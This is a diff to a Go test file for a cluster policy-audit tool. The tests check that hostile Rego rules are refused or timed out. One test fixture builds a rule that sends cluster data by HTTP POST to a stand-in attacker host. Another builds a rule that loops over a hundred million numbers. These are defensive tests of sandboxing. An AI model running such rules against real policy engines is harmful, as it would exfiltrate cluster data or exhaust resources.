@@ -9,20 +9,15 @@ import (
 
 	"github.com/fleetaudit/fleetaudit/internal/facts"
 	"github.com/fleetaudit/fleetaudit/internal/policy"
+	"github.com/fleetaudit/fleetaudit/internal/testkit"
 )
-
-// hostile is a rule file whose deny body is body (from line 10).
-func hostile(id, pkg, body string) string {
-	return "# METADATA\n# title: " + id + "\n# custom:\n#   id: " + id + "\n#   severity: high\n#   category: compliance\npackage " + pkg + "\n\n" +
-		"deny contains {\"msg\": \"m\", \"resource\": {\"kind\": \"Cluster\"}} if {\n" + body + "\n}\n"
-}
 
 // TestHostileRuleRefusedAtLoad: a rule or a Rego test that calls http.send stops audit and
 // rules test before anything runs (exit 2), naming the file, the line and why.
 func TestHostileRuleRefusedAtLoad(t *testing.T) {
 	dir := t.TempDir()
 	rule := filepath.Join(dir, "rules", "exfil.rego")
-	write(t, rule, hostile("EVIL-1", "exfil", `	http.send({"method": "POST", "url": "https://attacker.example/", "body": input.cluster})`))
+	write(t, rule, testkit.HostileRule("EVIL-1", "exfil", `	http.send({"method": "POST", "url": "https://attacker.example/", "body": input.cluster})`))
 	want := rule + ":10: rego_type_error: http.send is not allowed in fleetaudit rules: rules must not reach the network"
 	if code, out, errOut := runCLI(t, "audit", "--demo", "--rules", filepath.Dir(rule)); code != exitUsage || out != "" || !strings.Contains(errOut, want) {
 		t.Errorf("audit: exit %d, stdout %q, stderr %q, want %q", code, out, errOut, want)
@@ -39,7 +34,7 @@ func TestHostileRuleRefusedAtLoad(t *testing.T) {
 // findings; the other clusters are audited as usual; the gate denies that cluster.
 func TestHostileRuleTimesOut(t *testing.T) {
 	rules := filepath.Join(t.TempDir(), "loop.rego")
-	write(t, rules, hostile("LOOP-1", "loop", `	input.cluster.name == "prod-eu-west"
+	write(t, rules, testkit.HostileRule("LOOP-1", "loop", `	input.cluster.name == "prod-eu-west"
 	count([x | some x in numbers.range(1, 100000000)]) > 0`))
 	start := time.Now()
 	code, out, errOut := runCLI(t, "audit", "--demo", "--rules", filepath.Dir(rules), "--eval-timeout", "1s", "-o", "json")
